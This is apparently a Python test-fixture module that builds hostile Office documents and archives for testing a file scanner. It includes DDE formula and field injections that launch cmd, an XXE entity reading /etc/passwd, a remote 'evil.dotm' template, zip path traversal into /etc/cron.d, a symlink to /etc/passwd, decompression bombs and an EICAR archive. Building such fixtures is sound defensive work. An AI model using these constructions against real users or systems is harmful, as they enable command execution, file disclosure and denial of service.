"""Office files and archives that carry, reach out or swell."""

import functools
import io
import zipfile

import openpyxl

from tests.attack_files.texts import EICAR

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEXT = "<w:document xmlns:w='http://x'><w:p>Halo</w:p></w:document>"


def archive(entries, **options):
    """A zip of (name or ZipInfo, content) pairs."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **options) as made:
        for name, content in entries:
            made.writestr(name, content)
    return out.getvalue()


def docx(*more, main=MAIN, text=TEXT, relations=""):
    """The smallest Word document, and further entries."""
    types = f"<Types xmlns='{TYPES}'><Override PartName='/word/document.xml' ContentType='{main}'/></Types>"
    links = f"<Relationships xmlns='{RELATIONS}'>{relations}</Relationships>"
    return archive(
        [
            ("[Content_Types].xml", types),
            ("_rels/.rels", f"<Relationships xmlns='{RELATIONS}'/>"),
            ("word/document.xml", text),
            ("word/_rels/document.xml.rels", links),
            *more,
        ]
    )


def pptx():
    return docx(main=SLIDES)


def xlsx(*rows):
    book, out = openpyxl.Workbook(), io.BytesIO()
    for row in rows or (["a", 1],):
        book.active.append(row)
    book.save(out)
    return out.getvalue()


def formula():
    return xlsx(["=cmd|' /C calc'!A0"])


def relation(kind, target):
    return f"<Relationship Id='r' Type='{OFFICE}/{kind}' Target='{target}' TargetMode='External'/>"


def hyperlink():
    return docx(relations=relation("hyperlink", "https://bnsp.go.id"))


def external_template():
    return docx(relations=relation("attachedTemplate", "https://x/evil.dotm"))


def external_picture():
    return docx(relations=relation("image", "https://x/tracker.png"))


def command_field():
    """A field that starts a program, its word cut in two as Word does."""
    field = "<w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText>"
    return docx(text=TEXT.replace("Halo", field))


def sheet_command():
    return docx(("xl/externalLinks/externalLink1.xml", "<x><ddeLink ddeService='cmd' ddeTopic='/c calc'/></x>"))


def macro():
    return docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))


def macro_type():
    return docx(main=MACRO_MAIN)


def old_object():
    return docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"))


def program_inside():
    return docx(("word/media/x.exe", b"MZ"))


def entity():
    return docx(text='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + TEXT)


def entity_in_other_encoding():
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]>' + TEXT
    return docx(("word/styles.xml", text.encode("utf-16")))


def entity_in_drawing():
    return docx(("xl/drawings/vmlDrawing1.vml", "<!DOCTYPE d><xml><br></xml>"))


def old_drawing():
    """Excel writes unclosed tags here; that is not a reason to refuse."""
    return docx(("xl/drawings/vmlDrawing1.vml", "<xml><br></xml>"))


def sheet_inside():
    return docx(("word/embeddings/data.xlsx", xlsx()))


def macro_two_deep():
    return docx(("word/embeddings/data.docx", macro()))


def too_deep():
    return docx(("word/embeddings/a.docx", sheet_inside()))


def swelling():
    """1000 to 1."""
    return docx(("word/media/x.png", b"\0" * 60_000_000))


@functools.cache
def swelling_xml():
    return docx(("word/big.xml", "<a>" + " " * 20_000_000 + "</a>"))


def many_entries(count):
    return docx(*((f"word/media/{number}.png", b"") for number in range(count)))


def slip():
    return docx(("../../../etc/cron.d/x.xml", "<a/>"))


def absolute():
    return docx(("/etc/x.xml", "<a/>"))


def windows_slip():
    return docx(("word\\..\\..\\x.xml", "<a/>"))


def symlink():
    link = zipfile.ZipInfo("word/media/link.png")
    link.external_attr = 0o120777 << 16
    return docx((link, "/etc/passwd"))


def two_of_one_name():
    return docx(("WORD/document.xml", "<a/>"))


def broken_checksum():
    return docx((zipfile.ZipInfo("word/media/x.png"), b"MARKER")).replace(b"MARKER", b"MARKED")


def with_comment():
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as opened:
        opened.comment = b"<script>alert(1)</script>"
    return out.getvalue()


def behind_other_bytes():
    return b"#!/bin/sh\n" + docx()


def plain_zip():
    return archive([("readme.txt", "x")])


def nested_zip():
    return archive([("inner.zip", plain_zip()), ("a.docx", docx())])


def eicar_zip():
    return archive([("eicar.com", EICAR)])


def old_office():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
